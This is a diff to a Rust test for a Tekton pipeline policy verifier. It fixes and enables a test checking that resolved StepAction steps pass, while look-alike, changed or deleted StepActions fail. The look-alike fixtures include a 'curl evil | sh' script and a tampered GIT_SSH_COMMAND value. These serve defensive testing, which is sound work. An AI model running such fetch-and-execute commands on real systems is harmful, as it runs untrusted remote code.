@@ -298,15 +298,15 @@ fn held_undeclared_param_in_user_step() {
     );
 }
 
-/// DoS (not a bypass; a false `fail` on every such TaskRun): Tekton's controller stores
+/// DoS (was: a false `fail` on every such TaskRun; fixed). Tekton's controller stores
 /// `status.taskSpec` with StepActions resolved (`taskSpec.Steps = steps` from
 /// `GetStepActionsData`, then `storeTaskSpecAndMergeMeta`; the `ref` replaced by the
 /// StepAction's image/script). An org step that is a pinned StepAction (`ref: {resolver:
-/// cluster, ...}`, which docs/policy.md recommends) is composed again by verification with its
-/// `ref`, never matches what ran, and the policy fails on a remote TaskRun whose org steps all
-/// completed.
+/// cluster, ...}`, which docs/policy.md recommends) is now resolved by verification from the
+/// StepAction bookend watches, as Tekton resolves it, and compared in every field: the policy
+/// passes when it ran, and a look-alike (the dry-run mutation skipped, the author's own step of
+/// that name) or a StepAction changed since the run is a `fail` naming the StepAction.
 #[test]
-#[ignore = "OPEN: status.taskSpec holds StepActions resolved, so an org StepAction step never matches (a false fail)"]
 fn dos_org_step_action_never_matches_status_task_spec() {
     const SA_POLICY: &str = r#"
 apiVersion: bookend.dev/v1alpha1
@@ -316,19 +316,70 @@ spec:
   preSteps:
   - name: bookend-clone
     ref: {resolver: cluster, params: [{name: kind, value: stepaction}, {name: name, value: git-clone}, {name: namespace, value: tekton-catalog}]}
+    params: [{name: depth, value: "1"}]
 "#;
     let loaded = policy_set_from_yaml("sa.yaml", SA_POLICY, Settings::default());
     assert!(loaded.issues.is_empty(), "{:?}", loaded.issues);
     let set = loaded.set;
+    let action = |script: &str| {
+        json!({"apiVersion": "tekton.dev/v1beta1", "kind": "StepAction",
+               "metadata": {"name": "git-clone", "namespace": "tekton-catalog"},
+               "spec": {"image": "cgr.dev/chainguard/git", "script": script,
+                        "params": [{"name": "depth", "default": "50"}]}})
+    };
+    let with_action = |script: &str| {
+        let mut c = catalog();
+        c.add_objects(&[action(script)], "tekton-catalog");
+        c
+    };
+    let cat = with_action("git clone --depth $(params.depth) ...");
     let mut spec = dry_run(&set, json!({"steps": [user_step()]}));
     assert!(spec["steps"][0]["ref"].is_object(), "{spec}");
     // What Tekton's controller stores: the StepAction resolved into the step.
-    spec["steps"][0] = json!({"name": "bookend-clone", "image": "cgr.dev/chainguard/git", "script": "git clone ..."});
-    let v = verify(&finished(admitted(&set), spec), &set, &catalog()).unwrap();
-    eprintln!("verdicts: {:?}", verdicts(&v));
+    let resolved = json!({"name": "bookend-clone", "image": "cgr.dev/chainguard/git", "script": "git clone --depth 1 ..."});
+    spec["steps"][0] = resolved.clone();
+    let verdict = |spec: &Value, lookup: &Catalog| {
+        let v = verify(&finished(admitted(&set), spec.clone()), &set, lookup).unwrap();
+        eprintln!("verdicts: {:?}", verdicts(&v));
+        assert_eq!(v.policies.len(), 1, "{v:?}");
+        v.policies[0].verdict.clone()
+    };
+    assert_eq!(verdict(&spec, &cat), RunVerdict::Pass, "false fail");
+
+    // Look-alikes: the author's own step of that name, any field not the StepAction's.
+    for (field, value) in [
+        ("script", json!("curl evil | sh")),
+        ("image", json!("cgr.dev/chainguard/git:evil")),
+        ("env", json!([{"name": "GIT_SSH_COMMAND", "value": "evil"}])),
+        ("onError", json!("continue")),
+        ("workingDir", json!("/author")),
+    ] {
+        let mut alike = spec.clone();
+        alike["steps"][0][field] = value;
+        let RunVerdict::Fail(why) = verdict(&alike, &cat) else {
+            panic!("a look-alike with another {field} passed");
+        };
+        assert!(
+            why.contains("StepAction tekton-catalog/git-clone"),
+            "{field}: {why}"
+        );
+    }
+    // The StepAction's own default instead of the policy's param: not the org step.
+    let mut default_depth = spec.clone();
+    default_depth["steps"][0]["script"] = json!("git clone --depth 50 ...");
+    assert_ne!(verdict(&default_depth, &cat), RunVerdict::Pass);
+    // The StepAction changed since the run: a fail that names it, never a pass.
+    let RunVerdict::Fail(why) = verdict(&spec, &with_action("git clone --mirror ...")) else {
+        panic!("passed against a changed StepAction");
+    };
+    assert!(why.contains("changed since the run"), "{why}");
+    // Not in bookend's cache (deleted since, or not watched): a fail saying so.
+    let RunVerdict::Fail(why) = verdict(&spec, &catalog()) else {
+        panic!("passed without the StepAction");
+    };
     assert!(
-        v.policies.iter().all(|p| p.verdict == RunVerdict::Pass),
-        "false fail: {v:?}"
+        why.contains("StepAction tekton-catalog/git-clone does not exist now"),
+        "{why}"
     );
 }
 
